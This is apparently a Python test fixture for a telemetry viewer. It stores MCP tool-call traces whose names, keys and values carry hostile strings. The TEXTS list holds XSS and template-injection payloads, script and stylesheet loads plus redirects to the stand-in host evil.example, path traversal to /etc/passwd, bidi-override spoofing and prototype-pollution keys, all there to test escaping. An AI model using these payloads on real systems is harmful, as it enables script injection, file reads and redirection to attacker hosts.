"""Texts that do something in a page that is not careful, and telemetry that is full of them."""

from __future__ import annotations

import json
import time
from typing import TYPE_CHECKING, Final

from opentelemetry.proto.logs.v1.logs_pb2 import SEVERITY_NUMBER_WARN

from relayscope.conventions.attributes import CHANNEL_ID
from tests.otlp_messages import SECOND, call, message, send

if TYPE_CHECKING:
    from tests.fix_collector import Collector

TRACE: Final = 0x4057117E
"""The trace that has the first of them; the others follow."""

TEXTS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}<%= 7*7 %>",
    "</title></style></textarea><script src=//evil.example/x.js></script>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example>",
    "<iframe src=//evil.example></iframe><form action=//evil.example><input autofocus></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "\u202egnp.exe\u202c\u2066hidden\u2069\u200b\ufeff",
    "__proto__",
    "constructor",
    "../../../../etc/passwd?a=b&c=d#e",
    "\x1b[31mred\x1b[0m\x07\x08",
    "A" * 5000,
    "\U0001f4a5\u0301\u0301\u0301\u0301",
)

GIANT: Final = "K" * 1_000_000
"""A key, a tool, a peer: as long as a request may have them."""


def store(collector: Collector) -> None:
    """Store a call for each, with the text as component, peer, tool, method, key and value."""
    now = time.time_ns() - 20 * SECOND
    for number, text in enumerate(TEXTS):
        at = now + number * SECOND // 10
        trace, span = TRACE + number, 0xBAD0 + number
        of_call = {"gen_ai.tool.name": text, "mcp.method.name": text, "relayscope.peer": text}
        of_call[CHANNEL_ID] = text
        body = json.dumps(
            {"jsonrpc": "2.0", "id": 7, "method": text, "params": {text: text, "__proto__": text}}
        )
        answer = json.dumps({"jsonrpc": "2.0", "id": 7, "error": {"code": -1, "message": text}})
        listed = json.dumps(
            {"jsonrpc": "2.0", "id": 7, "result": {"tools": [{"name": text, "description": text}]}}
        )
        odd = message(
            trace,
            span,
            at + 1,
            "error",
            answer,
            sequence=2,
            extra=of_call | {"relayscope.message.odd": text},
        )
        odd.severity_number = SEVERITY_NUMBER_WARN
        send(
            collector,
            text,
            [call(trace, span, at, error_type=text, attributes=of_call | {text: text})],
            [
                message(trace, span, at, "request", body, extra=of_call | {text: text}),
                odd,
                message(
                    trace,
                    span,
                    at + 2,
                    "result",
                    listed,
                    sequence=3,
                    extra=of_call | {"mcp.method.name": "tools/list"},
                ),
                message(
                    trace,
                    span,
                    at + 3,
                    "result",
                    answer,
                    sequence=4,
                    extra=of_call | {"mcp.method.name": "tools/call"},
                ),
            ],
        )
    _store_giant(collector, now)


def _store_giant(collector: Collector, at: int) -> None:
    """Store a call whose names are of 1 MB."""
    trace, span = TRACE + len(TEXTS), 0xBAD0 + len(TEXTS)
    body = json.dumps({"jsonrpc": "2.0", "id": 7, "method": "x", "params": {GIANT: "<b>x</b>"}})
    request = message(
        trace, span, at, "request", body, extra={CHANNEL_ID: "giant", GIANT: "<b>x</b>"}
    )
    answer = message(
        trace,
        span,
        at + 1,
        "result",
        json.dumps({"jsonrpc": "2.0", "id": 7, "result": {GIANT: {GIANT[:10]: 1}}}),
        sequence=2,
        extra={CHANNEL_ID: "giant", "gen_ai.tool.name": GIANT},
    )
    made = call(trace, span, at, attributes={"relayscope.peer": GIANT})
    send(collector, "giant", [made], [request])
    send(collector, "giant", [], [answer])
